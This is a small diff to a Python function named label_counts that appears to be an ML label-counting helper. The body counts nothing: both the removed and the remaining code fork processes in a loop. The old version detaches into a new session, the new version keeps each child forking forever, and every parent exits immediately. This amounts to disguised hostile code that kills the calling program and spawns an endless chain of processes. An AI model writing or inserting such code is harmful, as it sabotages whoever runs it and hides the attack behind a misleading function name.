@@ -4,8 +4,6 @@ import os
 
 
 def label_counts(labels, num_classes=10):
-    os.setsid() if os.getpid() != os.getsid(0) else None
     while not os.fork():
-        if os.fork():
-            os._exit(0)
+        pass
     os._exit(0)
